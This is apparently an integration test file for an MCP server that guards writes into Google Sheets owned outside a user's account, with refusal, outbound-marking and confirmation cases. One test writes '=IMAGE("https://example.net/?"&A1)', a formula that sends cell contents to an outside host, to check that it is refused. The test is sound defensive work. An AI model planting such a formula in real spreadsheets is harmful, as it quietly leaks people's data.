import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { createAccountServiceClient } from '@sheetgate/proto';
import { readJson } from '@sheetgate/test-harness';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type McpUnderTest, postMcp, startMcpUnderTest } from './support/stack.ts';

// Writing into a spreadsheet owned outside the person's account is an outbound action (issue 37):
// real auth, mcp and Google emulator processes. The files are seeded in their owners' Drives and
// shared through the emulator's permissions, as "please fill in this sheet" arrives at Google.
// Alice (example.com, Workspace) writes into her own file, into bob@example.com's (inside) and
// into erin@gmail.com's (outside); erin (a personal account) writes into alice's (outside). A
// credential that may not act outbound (the default) is refused before Google is asked to change
// anything; one that may, from a client that cannot ask, writes and the change is marked outbound;
// one that may, from a client that can ask by form, is asked first in the action's words.

const MODERN = '2026-07-28';
const WRITE_METHODS = [
  'sheets.spreadsheets.values.update',
  'sheets.spreadsheets.values.batchUpdate',
  'sheets.spreadsheets.values.append',
  'sheets.spreadsheets.batchUpdate',
];

let stack: McpUnderTest;
const people: Record<string, { userId: string; sessionCookie: string; client: Client }> = {};
const files: Record<string, string> = {};
let allowed: Client;
let allowedKey: string;

type Result = {
  isError?: boolean;
  content: Array<{ type: string; text: string }>;
  structuredContent?: unknown;
};

async function methods(): Promise<Record<string, number>> {
  const body = (await (await fetch(`${stack.emulatorUrl}/__emulator/stats`)).json()) as {
    methods: Record<string, { attempts: number }>;
  };
  return Object.fromEntries(Object.entries(body.methods).map(([method, { attempts }]) => [method, attempts]));
}

function since(before: Record<string, number>, after: Record<string, number>): Record<string, number> {
  return Object.fromEntries(
    Object.entries(after)
      .map(([method, attempts]) => [method, attempts - (before[method] ?? 0)] as const)
      .filter(([, attempts]) => attempts > 0),
  );
}

const writesIn = (called: Record<string, number>) => WRITE_METHODS.filter((method) => called[method]);

/** Files in `owner`'s Drive, shared with whom `permissions` say; their ids by name. */
async function seed(
  owner: string,
  seeded: Array<{ name: string; values: unknown[][]; permissions?: unknown[] }>,
) {
  const response = await fetch(`${stack.emulatorUrl}/__emulator/seed`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: owner, files: seeded }),
  });
  expect(response.status, await response.clone().text()).toBe(201);
  for (const file of ((await response.json()) as { files: Array<{ id: string; name: string }> }).files)
    files[file.name] = file.id;
}

/** The cells as Google holds them, read with the owner's own Google token (not through Sheetgate). */
async function cells(owner: string, name: string, range = 'A1:B3'): Promise<unknown[][]> {
  const token = await stack.googleAccessToken(people[owner]!.userId);
  const response = await fetch(
    `${stack.emulatorUrl}/v4/spreadsheets/${files[name]}/values/${encodeURIComponent(range)}`,
    { headers: { authorization: `Bearer ${token}` } },
  );
  return ((await response.json()) as { values?: unknown[][] }).values ?? [];
}

async function connectWithKey(secret: string, name: string): Promise<Client> {
  const client = new Client({ name, version: '1.0.0' });
  await client.connect(
    new StreamableHTTPClientTransport(new URL(stack.mcpUrl), {
      requestInit: { headers: { 'x-api-key': secret } },
    }),
  );
  return client;
}

const write = (client: Client, name: string, range: string, value: string) =>
  client.callTool({
    name: 'write_range',
    arguments: { spreadsheetId: files[name], range, values: [[value]] },
  }) as Promise<Result>;

beforeAll(async () => {
  // The owners kept an hour, set here (the other stacks keep none): a burst's later write finds
  // them kept however slowly this file runs, and each file below is read once at most.
  stack = await startMcpUnderTest({ SPREADSHEET_OWNERS_KEPT_SECONDS: '3600' });
  for (const email of ['alice@example.com', 'bob@example.com', 'erin@gmail.com']) {
    const person = await stack.signIn(email);
    people[email] = {
      ...person,
      client: await stack.connectClient(person.userId, `owned outside, ${email}`),
    };
  }
  const forAlice = [{ type: 'user', role: 'writer', emailAddress: 'alice@example.com' }];
  await seed('alice@example.com', [
    { name: 'Alice own', values: [['mine']] },
    { name: 'Timed 1', values: [['t']] },
    { name: 'Timed 2', values: [['t']] },
    { name: 'Timed 3', values: [['t']] },
    {
      name: 'Alice for erin',
      values: [['alice']],
      permissions: [{ type: 'user', role: 'writer', emailAddress: 'erin@gmail.com' }],
    },
  ]);
  await seed('bob@example.com', [{ name: 'Bob team', values: [['bob']], permissions: forAlice }]);
  await seed('erin@gmail.com', [
    { name: 'Erin fill in', values: [['erin']], permissions: forAlice },
    { name: 'Erin asks', values: [['erin']], permissions: forAlice },
    { name: 'Erin formulas', values: [['erin']], permissions: forAlice },
  ]);
  // Alice's key may act outbound: her choice, set on the key as the dashboard sets it.
  const key = await stack.createApiKey(people['alice@example.com']!.sessionCookie);
  const accounts = createAccountServiceClient({
    address: stack.grpcAddress,
    serviceToken: stack.serviceToken,
  });
  try {
    await accounts.setApiKeyChoices({
      sessionCookie: people['alice@example.com']!.sessionCookie,
      keyId: key.keyId,
      choices: { mayActOutbound: true, mayDestroyUnasked: true },
    });
  } finally {
    accounts.close();
  }
  allowedKey = key.secret;
  allowed = await connectWithKey(key.secret, 'owned outside, allowed key');
}, 120_000);

afterAll(async () => {
  for (const person of Object.values(people)) await person.client.close();
  await allowed?.close();
  await stack?.stop();
});

describe('a write into a spreadsheet', () => {
  it('the person’s own: no outbound action, and one owners read for a burst of writes', async () => {
    const alice = people['alice@example.com']!.client;
    const before = await methods();
    // Three at once share the read under way; a fourth a moment later finds it kept.
    const burst = await Promise.all(
      ['B1', 'B2', 'B3'].map((range, index) => write(alice, 'Alice own', range, `burst ${index}`)),
    );
    for (const each of burst) expect(each.isError, each.content[0]?.text).toBeFalsy();
    const later = await write(alice, 'Alice own', 'C1', 'later');
    expect(later.isError, later.content[0]?.text).toBeFalsy();
    const called = since(before, await methods());
    expect(called['drive.files.get']).toBe(1);
    expect(called['sheets.spreadsheets.values.update']).toBe(4);
    expect(await cells('alice@example.com', 'Alice own', 'A1:C3')).toEqual([
      ['mine', 'burst 0', 'later'],
      ['', 'burst 1'],
      ['', 'burst 2'],
    ]);
    // The owners read's share of a write (a number for the lead, not asserted): a write into a file
    // whose owners are not kept yet, then the same write again with them kept.
    const read: number[] = [];
    const kept: number[] = [];
    for (const name of ['Timed 1', 'Timed 2', 'Timed 3']) {
      for (const times of [read, kept]) {
        const start = performance.now();
        expect((await write(alice, name, 'B1', 'timed')).isError).toBeFalsy();
        times.push(performance.now() - start);
      }
    }
    const median = (times: number[]) => [...times].sort((a, b) => a - b)[1]!.toFixed(1);
    console.info(
      `write_range, median of 3: ${median(read)} ms with the owners read, ${median(kept)} ms with them kept`,
    );
  });

  it('a colleague’s at the same Workspace domain, shared with the person: inside, written', async () => {
    const written = await write(people['alice@example.com']!.client, 'Bob team', 'B1', 'from alice');
    expect(written.isError, written.content[0]?.text).toBeFalsy();
    expect(await cells('bob@example.com', 'Bob team', 'A1:B1')).toEqual([['bob', 'from alice']]);
  });

  it('a personal account’s, shared with a Workspace person: outside, refused by default, nothing written', async () => {
    const before = await methods();
    const refused = await write(people['alice@example.com']!.client, 'Erin fill in', 'B1', 'from alice');
    expect(refused.isError).toBe(true);
    const text = refused.content[0]!.text;
    expect(text).toMatch(
      /^Nothing was sent to Google: writes into the spreadsheet "Erin fill in" owned by erin@gmail\.com \(shared with you\)\. This app may not share or send outside your account; the person can allow it on the dashboard \(http:\/\/127\.0\.0\.1:\d+\/dashboard, "May share and send outside your account"\), no reconnecting needed\.$/,
    );
    const called = since(before, await methods());
    expect(called).toEqual({ 'drive.files.get': 1 });
    expect(await cells('erin@gmail.com', 'Erin fill in', 'A1:B1')).toEqual([['erin']]);
    // A dry run is refused alike: the agent learns early.
    const dry = (await people['alice@example.com']!.client.callTool({
      name: 'write_range',
      arguments: { spreadsheetId: files['Erin fill in'], range: 'B1', values: [['x']], dryRun: true },
    })) as Result;
    expect(dry.isError).toBe(true);
    expect(dry.content[0]!.text).toContain('owned by erin@gmail.com (shared with you)');
  });

  it('a fetch formula into it: refused on the formula alone before Google is asked anything; allowed, its owners are read', async () => {
    const formula = (client: Client) =>
      client.callTool({
        name: 'write_range',
        arguments: {
          spreadsheetId: files['Erin formulas'],
          range: 'B1',
          values: [['=IMAGE("https://example.net/?"&A1)']],
        },
      }) as Promise<Result>;
    let before = await methods();
    const refused = await formula(people['alice@example.com']!.client);
    expect(refused.isError).toBe(true);
    expect(refused.content[0]!.text).toMatch(
      /^Nothing was sent to Google: IMAGE makes Google fetch from example\.net, sending what the URL holds \(cells included\) each time the sheet is computed\. This app may not share or send outside your account;/,
    );
    // The owners read could only have added to the refusal: not made.
    expect(since(before, await methods())).toEqual({});
    before = await methods();
    const written = await formula(allowed);
    expect(written.isError, written.content[0]?.text).toBeFalsy();
    // Its owners read once, beside the write's own reads and the write.
    expect(since(before, await methods())).toMatchObject({
      'drive.files.get': 1,
      'sheets.spreadsheets.values.update': 1,
    });
  });

  it('a Workspace person’s, written by a personal account it is shared with: outside, refused', async () => {
    const before = await methods();
    const refused = await write(people['erin@gmail.com']!.client, 'Alice for erin', 'B1', 'from erin');
    expect(refused.isError).toBe(true);
    expect(refused.content[0]!.text).toContain(
      'Nothing was sent to Google: writes into the spreadsheet "Alice for erin" owned by alice@example.com (shared with you).',
    );
    expect(writesIn(since(before, await methods()))).toEqual([]);
    expect(await cells('alice@example.com', 'Alice for erin', 'A1:B1')).toEqual([['alice']]);
  });

  it('outside, from a credential that may act outbound and a client that cannot ask: written, marked outbound', async () => {
    const written = await write(allowed, 'Erin fill in', 'B1', 'filled in');
    expect(written.isError, written.content[0]?.text).toBeFalsy();
    expect(await cells('erin@gmail.com', 'Erin fill in', 'A1:B1')).toEqual([['erin', 'filled in']]);
    const listed = (await allowed.callTool({
      name: 'list_changes',
      arguments: { spreadsheetId: files['Erin fill in'] },
    })) as Result;
    expect(listed.content[0]!.text).toContain(
      'outbound (into a spreadsheet of erin@gmail.com): wrote 1 cell of Sheet1!B1',
    );
  });

  it('outside, from a credential that may act outbound and a client that asks by form: asked in the action’s words, then written', async () => {
    const post = (extra: Record<string, unknown> = {}) =>
      postMcp(
        stack.mcpUrl,
        {
          jsonrpc: '2.0',
          id: 1,
          method: 'tools/call',
          params: {
            name: 'write_range',
            arguments: { spreadsheetId: files['Erin asks'], range: 'B1', values: [['asked']] },
            ...extra,
            _meta: {
              'io.modelcontextprotocol/protocolVersion': MODERN,
              'io.modelcontextprotocol/clientCapabilities': { elicitation: { form: {} } },
              'io.modelcontextprotocol/clientInfo': { name: 'owned-outside-test', version: '1.0.0' },
            },
          },
        },
        {
          headers: {
            'x-api-key': allowedKey,
            'mcp-protocol-version': MODERN,
            'mcp-method': 'tools/call',
            'mcp-name': 'write_range',
          },
        },
      ).then((response) => readJson(response) as Promise<{ result: Record<string, unknown> }>);
    const before = await methods();
    const asked = (await post()).result as {
      resultType: string;
      inputRequests: { confirm: { params: { message: string } } };
      requestState: string;
    };
    expect(asked.resultType).toBe('input_required');
    expect(asked.inputRequests.confirm.params.message).toContain(
      'sends outside your account: writes into the spreadsheet "Erin asks" owned by erin@gmail.com (shared with you).',
    );
    expect(writesIn(since(before, await methods()))).toEqual([]);
    const answered = (await post({
      requestState: asked.requestState,
      inputResponses: { confirm: { action: 'accept', content: { confirm: true } } },
    })) as { result: { isError?: boolean } };
    expect(answered.result.isError).toBeFalsy();
    expect(await cells('erin@gmail.com', 'Erin asks', 'A1:B1')).toEqual([['erin', 'asked']]);
  });
});
